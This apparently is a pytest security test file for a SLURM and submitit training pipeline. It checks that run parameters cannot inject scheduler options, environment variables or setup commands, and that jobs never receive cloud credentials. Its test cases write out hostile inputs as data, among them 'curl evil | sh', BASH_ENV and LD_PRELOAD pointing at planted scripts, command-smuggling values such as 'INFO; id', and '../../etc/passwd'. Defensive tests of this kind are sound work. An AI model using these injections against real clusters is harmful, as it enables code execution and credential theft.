"""Whoever can start a run chooses parameters; only the operator chooses what runs as shell.

Each attack below was once possible from the flow's parameters alone. Jobs get no credentials of
the process that submits them, whatever the executor.
"""
from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

from flows.plan.build import make_plan
from flows.plan.params import (
    ClusterParams,
    DataParams,
    OutputParams,
    ParameterError,
    TokenizerParams,
    TrainingParams,
)
from tasks.cluster.config import ClusterError, load_cluster
from tasks.cluster.jobs import submit, submit_array

ROOT = Path(__file__).resolve().parent.parent
MARKER = "marker-secret-3f9a1c"
CREDENTIALS = {"AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN", "PREFECT_API_KEY"}


def environment() -> dict[str, str]:
    """What a job's rank sees (runs inside the job)."""
    return dict(os.environ)


def slurm_saved_environment() -> bytes:
    """What SLURM keeps of the job's environment, read from inside the job (one host, root)."""
    job = os.environ["SLURM_JOB_ID"]
    return b"".join(p.read_bytes() for p in Path("/var/spool/slurmctld").glob(f"hash.*/job.{job}/environment"))


def _check(tmp_path: Path, **cluster: object) -> None:
    make_plan("tiny", DataParams(), TokenizerParams(), TrainingParams(), ClusterParams(**cluster),
          OutputParams(root=str(tmp_path)))


@pytest.mark.parametrize("overrides, named", [
    ({"sbatch_extra": {"export": "ALL,BASH_ENV=/tmp/evil.sh"}}, "'export'"),
    ({"sbatch_extra": {"task-prolog": "/tmp/evil.sh"}}, "'task-prolog'"),
    ({"sbatch_extra": {"chdir": "/"}}, "'chdir'"),
    ({"sbatch_extra": {"output": "/etc/cron.d/x"}}, "'output'"),
    ({"sbatch_extra": {"partition": "gpu --wrap=id"}}, "'partition'"),
    ({"srun_extra": ["--task-prolog=/tmp/evil.sh"]}, "--task-prolog"),
    ({"srun_extra": ["--export=ALL,LD_PRELOAD=/tmp/x.so"]}, "--export"),
    ({"env": {"BASH_ENV": "/tmp/evil.sh"}}, "'BASH_ENV'"),
    ({"env": {"LD_PRELOAD": "/tmp/x.so"}}, "'LD_PRELOAD'"),
    ({"env": {"NCCL_NET_PLUGIN": "/tmp/x.so"}}, "'NCCL_NET_PLUGIN'"),
    ({"env": {"NCCL_DEBUG": "INFO; id"}}, "'NCCL_DEBUG'"),
    ({"setup": ["curl evil | sh"]}, "setup"),
    ({"container": {"runtime": "pyxis", "image": "attacker/image", "mounts": ["/:/host"]}}, "container"),
])
def test_scheduler_options_from_parameters_pass_an_allowlist(tmp_path: Path, overrides: dict, named: str) -> None:
    with pytest.raises(ParameterError) as e:
        _check(tmp_path, preset="slurm-local", overrides=overrides)
    assert "cluster:" in str(e.value) and named in str(e.value)


def test_paths_of_the_run_are_not_parameters(tmp_path: Path) -> None:
    with pytest.raises(ParameterError) as e:
        make_plan("tiny", DataParams(), TokenizerParams(), TrainingParams(overrides={"run_dir": "/etc", "compile_cache_dir": "/"}),
              ClusterParams(), OutputParams(root=str(tmp_path)))
    assert "training.overrides.run_dir: decided by the flow" in str(e.value)
    assert "training.overrides.compile_cache_dir: decided by the flow" in str(e.value)


def test_allowed_tuning_from_parameters_reaches_the_script(tmp_path: Path) -> None:
    cluster = load_cluster("slurm-local", sbatch_extra={"mail-type": "END", "qos": "high"},
                           srun_extra=["--cpu-bind=cores"], env={"NCCL_DEBUG": "INFO"})
    script = cluster.sbatch_script(tmp_path / "jobs")
    assert "#SBATCH --mail-type=END" in script and "#SBATCH --qos=high" in script
    assert "--cpu-bind=cores" in script and "export NCCL_DEBUG=INFO" in script
    assert "export GLOO_SOCKET_IFNAME=lo" in script            # the preset's own env is kept


def test_the_bash_env_attack_from_the_command_line_is_refused(tmp_path: Path) -> None:
    evil = tmp_path / "evil.sh"
    evil.write_text(f"touch {tmp_path / 'pwned'}\n")
    out = subprocess.run([sys.executable, "-m", "flows.pretrain", "--cluster", "slurm-local", "--root", str(tmp_path),
                          "--cluster-set", f'sbatch_extra={{"export": "ALL,BASH_ENV={evil}"}}'],
                         cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert out.returncode == 2, out.stdout + out.stderr
    assert "sbatch_extra option 'export' cannot be set from parameters" in out.stderr
    assert not (tmp_path / "pwned").exists() and not list(tmp_path.glob("*/jobs"))


def test_presets_load_only_from_the_operators_folders(tmp_path: Path, monkeypatch) -> None:
    # Where sync would put a file planted in a bucket: under the run root.
    planted = tmp_path / "data" / "raw" / "0123" / "evil.yaml"
    planted.parent.mkdir(parents=True)
    planted.write_text("executor: local\nsetup: ['touch /tmp/pwned']\n")
    for preset in (str(planted), "data/raw/0123/evil.yaml", "../../etc/passwd", "evil"):
        with pytest.raises(ParameterError, match="cluster: .*(not in a presets folder|unknown cluster preset)"):
            _check(tmp_path, preset=preset)
    monkeypatch.setenv("GPT_CLUSTER_PRESET_DIRS", str(planted.parent))   # the operator's choice
    assert load_cluster(str(planted)).setup == ["touch /tmp/pwned"]
    assert load_cluster("evil").setup == ["touch /tmp/pwned"]
    monkeypatch.delenv("GPT_CLUSTER_PRESET_DIRS")
    with pytest.raises(ClusterError):
        load_cluster("evil")


def _with_marker_credentials(monkeypatch) -> None:
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "marker-key-id")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", MARKER)
    monkeypatch.setenv("AWS_SESSION_TOKEN", MARKER + "-session")
    monkeypatch.setenv("PREFECT_API_KEY", MARKER + "-prefect")


def test_local_jobs_get_no_credentials(tmp_path: Path, monkeypatch) -> None:
    _with_marker_credentials(monkeypatch)
    env, _, _ = submit(environment, load_cluster("local"), run_dir=tmp_path, job_name="env")
    assert env["SUBMITIT_EXECUTOR"] == "local"
    assert not [k for k, v in env.items() if MARKER in v or k in CREDENTIALS]


@pytest.mark.slurm
def test_slurm_jobs_and_slurms_records_get_no_credentials(slurm_cluster: dict, tmp_path: Path, monkeypatch) -> None:
    _with_marker_credentials(monkeypatch)
    cluster = load_cluster(slurm_cluster["preset"], nodes=1)
    env, job_id, _ = submit(environment, cluster, run_dir=tmp_path, job_name="env")
    assert env["SLURM_JOB_ID"] == job_id and env["SUBMITIT_EXECUTOR"] == "slurm"
    assert not [k for k, v in env.items() if MARKER in v or k in CREDENTIALS]
    saved, _, _ = submit(slurm_saved_environment, cluster, run_dir=tmp_path, job_name="env")
    assert b"SLURM_" in saved or b"PATH=" in saved     # the file was found and read
    assert MARKER.encode() not in saved
    leaks = [str(f) for f in tmp_path.rglob("*") if f.is_file() and MARKER.encode() in f.read_bytes()]
    assert leaks == []


@pytest.mark.slurm
def test_the_tasks_of_a_job_array_get_no_credentials(slurm_cluster: dict, tmp_path: Path, monkeypatch) -> None:
    _with_marker_credentials(monkeypatch)
    envs = submit_array([environment, environment], load_cluster(slurm_cluster["preset"]).data_job(),
                        run_dir=tmp_path, job_name="env")
    assert [env["SLURM_ARRAY_TASK_ID"] for env in envs] == ["0", "1"]
    assert not [k for env in envs for k, v in env.items() if MARKER in v or k in CREDENTIALS]
    leaks = [str(f) for f in tmp_path.rglob("*") if f.is_file() and MARKER.encode() in f.read_bytes()]
    assert leaks == []
